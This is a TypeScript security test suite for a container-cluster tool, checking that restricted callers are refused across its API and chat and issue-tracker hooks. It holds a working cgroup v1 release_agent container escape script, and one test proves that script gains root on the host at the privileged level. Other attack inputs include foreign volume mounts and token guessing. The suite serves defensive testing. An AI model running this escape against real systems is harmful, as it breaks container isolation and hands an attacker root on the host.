/**
 * The attacks of a caller with only the `install` scope, turned into tests: over the API, Slack,
 * Jira and a generic hook, through the real app, a real SQLite store, the real zx dispatcher and
 * the real engine. Each is refused with the path and the rule, and nothing is created; the host
 * escape is shown to work at `privileged`, so what stops it is the policy and not luck.
 */
import { createHmac, randomUUID } from 'node:crypto'
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { hostname, tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { createApp } from '../../functions/app.ts'
import type { Dispatcher } from '../../functions/dispatch/dispatcher.ts'
import { ZxDispatcher } from '../../functions/dispatch/zx.ts'
import { HooksConfig } from '../../functions/hooks/config.ts'
import { JobQueue } from '../../functions/queue.ts'
import { openSqliteStore, type SqliteStore } from '../../functions/store/sqlite.ts'
import { LABEL } from '../../scripts/engine/labels.ts'
import { PolicyConfig } from '../../scripts/engine/policy.ts'
import { caller } from '../helpers/app-request.ts'
import { hook, until, withTimeout } from '../helpers/async.ts'
import { engine, ensureDemoImage, removeTestClusters } from '../helpers/docker.ts'
import { finishedJob } from '../helpers/jobs.ts'
import { commandBody, signedHeaders } from '../helpers/slack.ts'
import { mintToken } from '../helpers/tokens.ts'
import { captureLog } from '../helpers/log.ts'

const bin = fileURLToPath(new URL('../../bin/berth.mjs', import.meta.url))
const SLACK_SECRET = `slack-${randomUUID()}`
const JIRA_SECRET = `jira-${randomUUID()}`
const HOOK_SECRET = `hook-${randomUUID()}`
const PROOF = `/tmp/berth-escaped-${randomUUID()}`

/**
 * The cgroup v1 release_agent escape: with SYS_ADMIN a node mounts a cgroup hierarchy, points its
 * release_agent at a script in its own layer (seen from the host through the overlay's upperdir)
 * and empties a cgroup: the kernel runs the script as root on the host, which writes PROOF there.
 */
const ESCAPE = [
  'set -e',
  'd=/tmp/cg; mkdir -p $d',
  'mount -t cgroup -o rdma cgroup $d 2>/dev/null || mount -t cgroup -o memory cgroup $d',
  'mkdir -p $d/x; echo 1 > $d/x/notify_on_release',
  'host=$(sed -n "s/.*upperdir=\\([^,]*\\).*/\\1/p" /etc/mtab)',
  'echo "$host/cmd" > $d/release_agent',
  `printf '#!/bin/sh\\nid > ${PROOF}\\nhostname >> ${PROOF}\\n' > /cmd; chmod +x /cmd`,
  'sh -c "echo \\$\\$ > $d/x/cgroup.procs"; sleep 1',
].join('\n')

const topo = (
  name: string,
  node: Record<string, unknown>,
  extra: Record<string, unknown> = {}
) => ({
  name,
  image: 'berth/demo:1',
  domain: 'sec.local',
  defaults: { resources: { memory: '32m' } },
  nodes: [{ name: 'app', bootstrap: 'true', ...node }],
  ...extra,
})

/** The attacks, and the path and rule each refusal must name. */
const ATTACKS: { cluster: string; topology: object; path: string; message: RegExp }[] = [
  {
    cluster: 't-sec-escape',
    topology: topo('t-sec-escape', { capAdd: ['SYS_ADMIN'], bootstrap: ['sh', '-c', ESCAPE] }),
    path: 'nodes[0].capAdd[0]',
    message: /^SYS_ADMIN is not allowed by policy "restricted" \(allowed: NET_BIND_SERVICE\)$/,
  },
  {
    cluster: 't-sec-volume',
    topology: topo('t-sec-volume', {
      volumes: [{ name: 't-sec-victim.db.data', target: '/stolen', external: true }],
    }),
    path: 'nodes[0].volumes[0]',
    message:
      /^external volume "t-sec-victim\.db\.data" is not allowed by policy "restricted" \(allowed: none\)$/,
  },
  {
    cluster: 't-sec-image',
    topology: topo('t-sec-image', { image: 'berth-snap/t-sec-victim.db:nightly' }),
    path: 'nodes[0].image',
    message: /is a snapshot image: snapshots are reachable only through restore/,
  },
  {
    cluster: 't-sec-cap',
    topology: topo('t-sec-cap', { capAdd: ['NET_ADMIN'] }),
    path: 'nodes[0].capAdd[0]',
    message: /^NET_ADMIN is not allowed by policy "restricted"/,
  },
  {
    cluster: 't-sec-port',
    topology: topo('t-sec-port', { ports: ['0.0.0.0:18499:80'] }),
    path: 'nodes[0].ports',
    message:
      /^0\.0\.0\.0:18499\/tcp: host address 0\.0\.0\.0 is not allowed by policy "restricted" \(allowed: 127\.0\.0\.1\)$/,
  },
  {
    // This host's policy lets restricted callers place nodes on lab1 and lab2 of its swarm only.
    cluster: 't-sec-host',
    topology: topo('t-sec-host', { placement: { host: 'lab3' } }, { network: { mode: 'swarm' } }),
    path: 'nodes[0].placement.host',
    message: /^host "lab3" is not allowed by policy "restricted" \(allowed: lab1, lab2\)$/,
  },
]

/** The host's policy in this suite: the defaults, but for the swarm hosts restricted may use. */
const POLICY = PolicyConfig.parse({ restricted: { hosts: ['lab1', 'lab2'] } })

/** The real zx dispatcher, counting the jobs it runs on the host (reads included). */
class CountingDispatcher implements Dispatcher {
  readonly name = 'counting'
  runs = 0
  constructor(private readonly inner: ZxDispatcher) {}
  run(...args: Parameters<Dispatcher['run']>) {
    this.runs++
    return this.inner.run(...args)
  }
}

let home: string
let store: SqliteStore
let queue: JobQueue
let dispatcher: CountingDispatcher
let app: ReturnType<typeof createApp>
const said = captureLog()
const tokens: Record<string, string> = {}
const call = caller(() => app)
const finished = (id: string, ms = 90_000) => finishedJob(store, id, ms)
const jobsOf = async (cluster: string) =>
  (await store.listJobs({})).filter((j) => j.cluster === cluster)
const containersOf = async (cluster: string) =>
  engine.listContainers([`${LABEL.cluster}=${cluster}`])

const Sec = suite(
  'security: grants, the host policy and limits (real app, SQLite, dispatcher and engine)'
)

Sec.before(
  hook(async () => {
    home = mkdtempSync(join(tmpdir(), 'berth-sec-'))
    process.env.BERTH_HOME = home
    await removeTestClusters('t-sec')
    await withTimeout(ensureDemoImage(), 120_000, 'demo image')
    store = await openSqliteStore(join(home, 'berth.db'))
    dispatcher = new CountingDispatcher(
      new ZxDispatcher({ mode: 'local', berth: [process.execPath, bin], graceMs: 10_000 })
    )
    queue = new JobQueue({ store, dispatcher, maxClusters: 3 })
    const hooks = HooksConfig.parse({
      slack: {
        signingSecret: SLACK_SECRET,
        allow: [
          { users: ['U0EVE'], kinds: ['install', 'snapshot', 'status'], clusters: ['t-sec-*'] },
        ],
      },
      jira: {
        secret: JIRA_SECRET,
        clusterField: 'customfield_10050',
        allow: [{ projects: ['OPS'], clusters: ['t-sec-*'] }],
      },
      generic: Object.fromEntries(
        ATTACKS.map((a) => [
          a.cluster,
          { secret: HOOK_SECRET, job: { kind: 'install', cluster: a.cluster } },
        ])
      ),
    })
    app = createApp({ store, queue, hooks, log: said.log, policy: POLICY })
    tokens.admin = await mintToken(store, 'root', ['admin'])
    tokens.eve = await mintToken(store, 'eve', ['install', 'read'])
    tokens.snap = await mintToken(store, 'snapper', ['snapshot', 'read'])
    tokens.restorer = await mintToken(store, 'restorer', ['restore', 'read'])
    for (const a of ATTACKS)
      await store.putTopology({
        name: a.cluster,
        text: JSON.stringify(a.topology),
        updatedBy: 'root',
      })
  })
)

Sec.after(
  hook(async () => {
    await queue.drain(30_000)
    await removeTestClusters('t-sec')
    await store.close()
    rmSync(PROOF, { force: true })
  })
)

Sec(
  'the attacks are refused over the API, Slack, Jira and a generic hook, naming the path and the rule; nothing is created',
  async () => {
    const before = await store.listJobs({})
    for (const a of ATTACKS) {
      // The API: the topology in the body, and by reference.
      for (const body of [
        { kind: 'install', cluster: a.cluster, topology: a.topology },
        { kind: 'install', cluster: a.cluster, topologyRef: a.cluster },
      ]) {
        const res = await call('POST', '/v1/jobs', { token: tokens.eve, body })
        assert.is(res.status, 403, a.cluster)
        const { error } = await res.json()
        assert.is(error.code, 'forbidden')
        const issue = error.issues.find((i: { path: string }) => i.path === a.path)
        assert.ok(issue, `${a.cluster}: the refusal names ${a.path}: ${JSON.stringify(error)}`)
        assert.match(issue.message, a.message)
        assert.ok(error.message.startsWith('refused by the host policy:\n'), error.message)
      }
      // Slack: the user's rule allows install of t-sec-*, at the restricted level.
      const slack = commandBody({ text: `install ${a.cluster}`, user_id: 'U0EVE' })
      const reply = (await (
        await app.request('/hooks/slack', {
          method: 'POST',
          body: slack,
          headers: signedHeaders(SLACK_SECRET, slack),
        })
      ).json()) as { text: string }
      assert.match(
        reply.text,
        new RegExp(
          `could not start install \\*${a.cluster}\\*: refused by the host policy:\\n${a.path.replace(/[[\].]/g, '\\$&')}: `
        ),
        reply.text
      )
      // Jira: a labelled issue of project OPS naming the cluster.
      const issue = JSON.stringify({
        webhookEvent: 'jira:issue_created',
        timestamp: Date.now(),
        user: { accountId: 'acc-eve' },
        issue: {
          key: 'OPS-1',
          fields: { labels: ['berth-install'], customfield_10050: a.cluster },
        },
      })
      const jira = await app.request('/hooks/jira', {
        method: 'POST',
        body: issue,
        headers: {
          'x-hub-signature': `sha256=${createHmac('sha256', JIRA_SECRET).update(issue).digest('hex')}`,
        },
      })
      assert.is(jira.status, 403, `jira: ${a.cluster}`)
      assert.ok(
        ((await jira.json()) as { error: { message: string } }).error.message.includes(
          `${a.path}: `
        ),
        'jira names the path'
      )
      // A generic hook whose fixed job installs it.
      const ts = Math.floor(Date.now() / 1000)
      const headers = {
        'x-berth-timestamp': String(ts),
        'x-berth-signature': `v1=${createHmac('sha256', HOOK_SECRET).update(`v1:${ts}:{}`).digest('hex')}`,
      }
      const generic = await app.request(`/hooks/${a.cluster}`, {
        method: 'POST',
        body: '{}',
        headers,
      })
      assert.is(generic.status, 403, `hook: ${a.cluster}`)
      assert.is(
        await containersOf(a.cluster).then((c) => c.length),
        0,
        `no container of ${a.cluster}`
      )
    }
    assert.equal(await store.listJobs({}), before, 'not one job was recorded')
    assert.not.ok(existsSync(PROOF), 'and nothing ran on the host')
    const refusals = (await store.listAudit({ limit: 100 })).filter(
      (r) => r.outcome === 'refused' && r.action === 'job.install'
    )
    assert.is(refusals.length, ATTACKS.length * 5, 'every refusal is audited')
    assert.equal(
      [...new Set(refusals.map((r) => (r.detail as { rule: string }).rule))],
      ['policy:restricted']
    )
    assert.equal([...new Set(refusals.map((r) => r.actor))].sort(), [
      'eve',
      ...ATTACKS.map((a) => `hook:${a.cluster}`).sort(),
      'jira:acc-eve',
      'slack:U0EVE',
    ])
  }
)

Sec(
  "a restore's placement passes the same rule: spread, or a host beyond the allowed, is a 403 naming options.placement",
  async () => {
    const before = await store.listJobs({})
    for (const [placement, message] of [
      ['spread', /^policy "restricted" allows only the hosts lab1, lab2: name one/],
      [
        'host=lab2,lab3',
        /^host "lab3" is not allowed by policy "restricted" \(allowed: lab1, lab2\)$/,
      ],
    ] as const) {
      const res = await call('POST', '/v1/jobs', {
        token: tokens.restorer,
        body: {
          kind: 'restore',
          cluster: 't-sec-host',
          snapshot: 'nightly',
          options: { placement },
        },
      })
      assert.is(res.status, 403, placement)
      const { error } = await res.json()
      assert.equal(
        error.issues.map((i: { path: string }) => i.path),
        ['options.placement'],
        JSON.stringify(error)
      )
      assert.match(error.issues[0].message, message)
    }
    // Hosts the policy allows pass admission (and reach the host, which finds no such snapshot).
    const allowed = await call('POST', '/v1/jobs', {
      token: tokens.restorer,
      body: {
        kind: 'restore',
        cluster: 't-sec-host',
        snapshot: 'nightly',
        options: { placement: 'host=lab1,lab2' },
      },
    })
    const accepted = (await allowed.json()) as { job: { id: string } }
    assert.is(allowed.status, 202, JSON.stringify(accepted))
    const job = await finished(accepted.job.id)
    assert.is(job.state, 'failed')
    assert.is((job.result as { code: string }).code, 'not_found', JSON.stringify(job.result))
    assert.is((await store.listJobs({})).length, before.length + 1, 'the refusals recorded no job')
  }
)

Sec(
  'the same escape at level privileged (an admin token) does run as root on this host: the policy is what stops it',
  async () => {
    const res = await call('POST', '/v1/jobs', {
      token: tokens.admin,
      body: { kind: 'install', cluster: 't-sec-escape', topologyRef: 't-sec-escape' },
    })
    assert.is(res.status, 202)
    const job = await finished((await res.json()).job.id)
    assert.is(job.state, 'succeeded', JSON.stringify(job.result))
    await until('the proof on the host', async () => (existsSync(PROOF) ? true : undefined), 10_000)
    const proof = readFileSync(PROOF, 'utf8')
    assert.match(proof, /^uid=0\(root\)/, 'written by root')
    assert.ok(proof.includes(hostname()), `on the host itself, not in the node: ${proof}`)
    assert.equal((job.spec as { admission: object }).admission, {
      owner: 'token:root',
      level: 'privileged',
      remove: true,
    })
  }
)

Sec(
  "another owner's cluster: installing over it, or removing nodes of one's own, needs the restore scope; the host says so and changes nothing",
  async () => {
    // root's cluster of two nodes.
    const two = topo(
      't-sec-owned',
      {},
      {
        nodes: [
          { name: 'a', bootstrap: 'true' },
          { name: 'b', bootstrap: 'true' },
        ],
      }
    )
    const made = await finished(
      (
        await (
          await call('POST', '/v1/jobs', {
            token: tokens.admin,
            body: { kind: 'install', cluster: 't-sec-owned', topology: two },
          })
        ).json()
      ).job.id
    )
    assert.is(made.state, 'succeeded', JSON.stringify(made.result))
    const ids = (await containersOf('t-sec-owned')).map((c) => c.Id).sort()
    const status = await call('GET', '/v1/clusters/t-sec-owned', { token: tokens.eve })
    assert.is((await status.json()).cluster.owner, 'token:root', 'status says who made it')

    // Eve, with install on every cluster, installs a one-node topology of that name: refused on the host.
    const one = topo('t-sec-owned', {}, { nodes: [{ name: 'a', bootstrap: 'true' }] })
    const taken = await finished(
      (
        await (
          await call('POST', '/v1/jobs', {
            token: tokens.eve,
            body: { kind: 'install', cluster: 't-sec-owned', topology: one },
          })
        ).json()
      ).job.id
    )
    assert.equal([taken.state, taken.exitCode], ['failed', 7])
    assert.is(
      (taken.result as { message: string }).message,
      'cluster "t-sec-owned" exists and belongs to token:root; installing over it needs the restore scope on it'
    )
    assert.equal(
      (await containersOf('t-sec-owned')).map((c) => c.Id).sort(),
      ids,
      'both nodes are still there, untouched'
    )

    // Her own cluster: she may converge it, but not shrink it.
    const mine = topo(
      't-sec-mine',
      {},
      {
        nodes: [
          { name: 'a', bootstrap: 'true' },
          { name: 'b', bootstrap: 'true' },
        ],
      }
    )
    const built = await finished(
      (
        await (
          await call('POST', '/v1/jobs', {
            token: tokens.eve,
            body: { kind: 'install', cluster: 't-sec-mine', topology: mine },
          })
        ).json()
      ).job.id
    )
    assert.is(built.state, 'succeeded', JSON.stringify(built.result))
    const again = await finished(
      (
        await (
          await call('POST', '/v1/jobs', {
            token: tokens.eve,
            body: { kind: 'install', cluster: 't-sec-mine', topology: mine },
          })
        ).json()
      ).job.id
    )
    assert.is(again.state, 'succeeded', 'converging her own cluster')
    const shrink = { ...mine, nodes: [{ name: 'a', bootstrap: 'true' }] }
    const shrunk = await finished(
      (
        await (
          await call('POST', '/v1/jobs', {
            token: tokens.eve,
            body: { kind: 'install', cluster: 't-sec-mine', topology: shrink },
          })
        ).json()
      ).job.id
    )
    assert.is(
      (shrunk.result as { message: string }).message,
      'the topology would remove node(s) b of cluster "t-sec-mine"; removing nodes needs the restore scope on it'
    )
    assert.is((await containersOf('t-sec-mine')).length, 2)
    // With the restore scope, the same request removes the node.
    const keeper = await mintToken(store, 'keeper', ['install', 'restore', 'read'])
    const removed = await finished(
      (
        await (
          await call('POST', '/v1/jobs', {
            token: keeper,
            body: { kind: 'install', cluster: 't-sec-mine', topology: shrink },
          })
        ).json()
      ).job.id
    )
    assert.is(removed.state, 'succeeded', JSON.stringify(removed.result))
    assert.is((await containersOf('t-sec-mine')).length, 1)
  }
)

Sec(
  "another cluster's volume is never mounted below privileged, even where the allowlist admits every external volume",
  async () => {
    // The victim's data volume, as berth made it for t-sec-victim.
    await engine.createVolume('t-sec-victim.db.data', {
      [LABEL.cluster]: 't-sec-victim',
      [LABEL.node]: 'db',
      [LABEL.volume]: 'data',
    })
    const wide = createApp({
      store,
      queue,
      policy: PolicyConfig.parse({ restricted: { externalVolumes: ['*'] } }),
    })
    const res = await wide.request('/v1/jobs', {
      method: 'POST',
      headers: { authorization: `Bearer ${tokens.eve}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        kind: 'install',
        cluster: 't-sec-volume',
        topologyRef: 't-sec-volume',
      }),
    })
    assert.is(res.status, 202, 'the allowlist lets it through the service')
    const job = await finished(((await res.json()) as { job: { id: string } }).job.id)
    assert.equal([job.state, job.exitCode], ['failed', 7])
    assert.match(
      (job.result as { message: string }).message,
      /node "app": external volume "t-sec-victim\.db\.data" belongs to cluster "t-sec-victim"; policy "restricted" never mounts another cluster's volume/
    )
    assert.is((await containersOf('t-sec-volume')).length, 0)
  }
)

Sec('grants: a token sees only its clusters and their jobs, and may act only on them', async () => {
  const scoped = await mintToken(store, 'scoped', ['install', 'read', 'snapshot'], {
    clusters: ['t-sec-a-*'],
  })
  const a = await finished(
    (
      await (
        await call('POST', '/v1/jobs', {
          token: scoped,
          body: { kind: 'install', cluster: 't-sec-a-web', topology: topo('t-sec-a-web', {}) },
        })
      ).json()
    ).job.id
  )
  assert.is(a.state, 'succeeded')
  const other = await call('POST', '/v1/jobs', {
    token: scoped,
    body: { kind: 'install', cluster: 't-sec-b-web', topology: topo('t-sec-b-web', {}) },
  })
  assert.is(other.status, 403)
  assert.is(
    (await other.json()).error.message,
    'the token "scoped" may not act on cluster "t-sec-b-web" (its clusters: t-sec-a-*)'
  )

  const listed = (await (await call('GET', '/v1/jobs?limit=500', { token: scoped })).json())
    .jobs as { cluster: string }[]
  assert.ok(
    listed.length >= 1 && listed.every((j) => j.cluster.startsWith('t-sec-a-')),
    "only its clusters' jobs"
  )
  const clusters = (await (await call('GET', '/v1/clusters', { token: scoped })).json())
    .clusters as { cluster: string }[]
  assert.equal(
    clusters.map((c) => c.cluster),
    ['t-sec-a-web']
  )
  const rootJob = (await store.listJobs({ cluster: 't-sec-owned', limit: 1 }))[0]
  for (const path of [
    `/v1/jobs/${rootJob.id}`,
    `/v1/jobs/${rootJob.id}/log`,
    `/v1/jobs/${rootJob.id}/events`,
  ]) {
    assert.is(
      (await call('GET', path, { token: scoped })).status,
      404,
      `${path}: another team's job is not there for it`
    )
  }
  assert.is((await call('POST', `/v1/jobs/${rootJob.id}/cancel`, { token: scoped })).status, 404)
  assert.is((await call('GET', '/v1/clusters/t-sec-owned', { token: scoped })).status, 403)
  assert.is(
    (await call('GET', '/v1/clusters/t-sec-owned/snapshots', { token: scoped })).status,
    403
  )
  assert.is((await call('GET', '/v1/topologies/t-sec-escape', { token: scoped })).status, 403)
})

Sec(
  'pruning is removal: options.keep needs the restore scope, over the API and Slack',
  async () => {
    const res = await call('POST', '/v1/jobs', {
      token: tokens.snap,
      body: { kind: 'snapshot', cluster: 't-sec-mine', options: { keep: 1 } },
    })
    assert.is(res.status, 403)
    assert.is(
      (await res.json()).error.message,
      'the token "snapper" lacks the "restore" scope (options.keep prunes snapshots, which is removal)'
    )
    const slack = commandBody({ text: 'snapshot t-sec-mine keep 1', user_id: 'U0EVE' })
    const reply = (await (
      await app.request('/hooks/slack', {
        method: 'POST',
        body: slack,
        headers: signedHeaders(SLACK_SECRET, slack),
      })
    ).json()) as { text: string }
    assert.match(
      reply.text,
      /no rule under hooks\.slack\.allow lets U0EVE prune snapshots of t-sec-mine from this channel \(snapshot … keep removes snapshots: it needs the restore verb\)/
    )
    assert.is((await jobsOf('t-sec-mine')).filter((j) => j.kind === 'snapshot').length, 0)
  }
)

Sec(
  'a read token sees no topology: bootstrap commands and environment stay with who may install',
  async () => {
    const reader = await mintToken(store, 'reader', ['read'])
    const res = await call('GET', '/v1/topologies/t-sec-escape', { token: reader })
    assert.is(res.status, 403)
    assert.is((await call('GET', '/v1/topologies/t-sec-escape', { token: tokens.eve })).status, 200)
  }
)

Sec(
  'reads are shared: 40 concurrent GET /v1/clusters run the host once, and a later one within 2 s reuses it',
  async () => {
    await new Promise((r) => setTimeout(r, 2100))
    const before = dispatcher.runs
    const all = await Promise.all(
      Array.from({ length: 40 }, () => call('GET', '/v1/clusters', { token: tokens.admin }))
    )
    assert.ok(all.every((r) => r.status === 200))
    const bodies = new Set(await Promise.all(all.map((r) => r.text())))
    assert.is(bodies.size, 1, 'one answer for all')
    assert.is(dispatcher.runs - before, 1, 'one `berth job run` for 40 readers')
    await call('GET', '/v1/clusters', { token: tokens.admin })
    assert.is(dispatcher.runs - before, 1, 'reused')
  }
)

Sec(
  'a caller may keep at most 20 jobs waiting; a changing job never waits behind read-only ones',
  async () => {
    // A long install holds t-sec-busy; reads queued behind it wait for it.
    const slow = topo('t-sec-busy', { bootstrap: 'sleep 6' })
    const install = (
      await (
        await call('POST', '/v1/jobs', {
          token: tokens.admin,
          body: { kind: 'install', cluster: 't-sec-busy', topology: slow },
        })
      ).json()
    ).job
    await until(
      'install running',
      async () => ((await store.getJob(install.id))?.state === 'running' ? true : undefined),
      10_000
    )
    const answers = []
    for (let i = 0; i < 21; i++)
      answers.push(
        await call('POST', '/v1/jobs', {
          token: tokens.eve,
          body: { kind: 'status', cluster: 't-sec-busy' },
        })
      )
    assert.equal(
      answers.slice(0, 20).map((r) => r.status),
      Array(20).fill(202)
    )
    assert.is(answers[20].status, 429)
    assert.is(
      (await answers[20].json()).error.message,
      'eve has 20 jobs waiting already (at most 20); wait for them to start'
    )

    // 20 reads of another cluster queued first; the admin's stop of it starts at once.
    for (let i = 0; i < 20; i++)
      await call('POST', '/v1/jobs', {
        token: tokens.snap,
        body: { kind: 'status', cluster: 't-sec-mine' },
      })
    const t0 = Date.now()
    const stop = (
      await (
        await call('POST', '/v1/jobs', {
          token: tokens.admin,
          body: { kind: 'stop', cluster: 't-sec-mine' },
        })
      ).json()
    ).job
    await until(
      'the stop started',
      async () => ((await store.getJob(stop.id))?.startedAt ? true : undefined),
      10_000,
      20
    )
    const waited = Date.parse((await store.getJob(stop.id))!.startedAt!) - t0
    const reads = (await jobsOf('t-sec-mine')).filter(
      (j) => j.kind === 'status' && j.requestedBy === 'snapper'
    )
    const stillWaiting = reads.filter((j) => j.state === 'queued').length
    console.log(
      `  the stop started ${waited} ms after it was asked, with ${stillWaiting} of 20 reads still queued`
    )
    assert.ok(
      waited < 2000 && stillWaiting > 0,
      `the stop did not wait for the reads (${waited} ms, ${stillWaiting} still queued)`
    )
    await finished(stop.id)
    await Promise.all([...reads.map((j) => finished(j.id)), finished(install.id)])
  }
)

Sec('list limits are validated: 1 to 500, or 422', async () => {
  for (const limit of ['-1', '0', '501', 'abc', '1e3']) {
    const res = await call('GET', `/v1/jobs?limit=${limit}`, { token: tokens.admin })
    assert.is(res.status, 422, limit)
    assert.match((await res.json()).error.message, /^limit: /)
  }
  assert.is((await call('GET', '/v1/jobs?limit=500', { token: tokens.admin })).status, 200)
  assert.is((await call('GET', '/v1/audit?limit=-1', { token: tokens.admin })).status, 422)
})

Sec(
  'failed authentication is capped per address: 429 with Retry-After, said once in the log and the audit',
  async () => {
    const fresh = createApp({ store, queue, log: said.log })
    const statuses: number[] = []
    let retry: string | null = null
    for (let i = 0; i < 40; i++) {
      const res = await fresh.request('/v1/jobs', {
        headers: { authorization: `Bearer berth_guess-${i}` },
      })
      statuses.push(res.status)
      if (res.status === 429) retry ??= res.headers.get('retry-after')
    }
    assert.equal(statuses, [...Array(30).fill(401), ...Array(10).fill(429)])
    assert.ok(Number(retry) >= 1 && Number(retry) <= 60, `Retry-After: ${retry}`)
    // Even the right token waits: the address is refused for the rest of the window.
    assert.is(
      (await fresh.request('/v1/jobs', { headers: { authorization: `Bearer ${tokens.admin}` } }))
        .status,
      429
    )
    assert.is(
      said.records.filter(
        (r) =>
          r.level === 'warn' &&
          r.msg.startsWith('auth: 30 failed authentications from address unknown')
      ).length,
      1,
      said.messages().join('\n')
    )
    assert.is(
      (await store.listAudit({ limit: 50 })).filter((a) => a.action === 'auth.limit').length,
      1
    )
  }
)

Sec('X-Forwarded-For is believed only from a configured proxy', async () => {
  const via = (peer: string) =>
    createApp({ store, queue, peer: () => peer, trustedProxies: ['10.9.0.1'] })
  const post = async (a: ReturnType<typeof createApp>, xff: string) => {
    const res = await a.request('/v1/jobs', {
      method: 'POST',
      headers: {
        authorization: `Bearer ${tokens.admin}`,
        'content-type': 'application/json',
        'x-forwarded-for': xff,
      },
      body: JSON.stringify({ kind: 'status', cluster: 't-sec-xff' }),
    })
    return (await store.getJob(((await res.json()) as { job: { id: string } }).job.id))!.source
  }
  assert.is(
    await post(via('10.9.0.1'), '203.0.113.7, 10.9.0.1'),
    '203.0.113.7',
    'from the proxy: the client it names'
  )
  assert.is(
    await post(via('198.51.100.2'), '203.0.113.7'),
    '198.51.100.2',
    'from anyone else: the connection itself'
  )
  for (const j of await jobsOf('t-sec-xff')) await finished(j.id)
})

Sec("a revoked token's open event stream ends within a second", async () => {
  const follower = await mintToken(store, 'follower', ['read'])
  const slow = topo('t-sec-follow', { bootstrap: 'sleep 8' })
  const job = (
    await (
      await call('POST', '/v1/jobs', {
        token: tokens.admin,
        body: { kind: 'install', cluster: 't-sec-follow', topology: slow },
      })
    ).json()
  ).job
  const res = await call('GET', `/v1/jobs/${job.id}/events`, { token: follower })
  const reading = res.text()
  await until(
    'the job runs',
    async () => ((await store.getJob(job.id))?.state === 'running' ? true : undefined),
    10_000
  )
  const t0 = Date.now()
  await store.revokeToken('follower')
  const text = await withTimeout(reading, 5000, 'the stream to end')
  const ms = Date.now() - t0
  assert.ok(ms < 1500, `ended ${ms} ms after the revocation`)
  assert.match(text, /event: revoked/)
  assert.not.match(text, /event: end/)
  assert.is((await finished(job.id)).state, 'succeeded', 'the job itself goes on')
})

Sec.run()
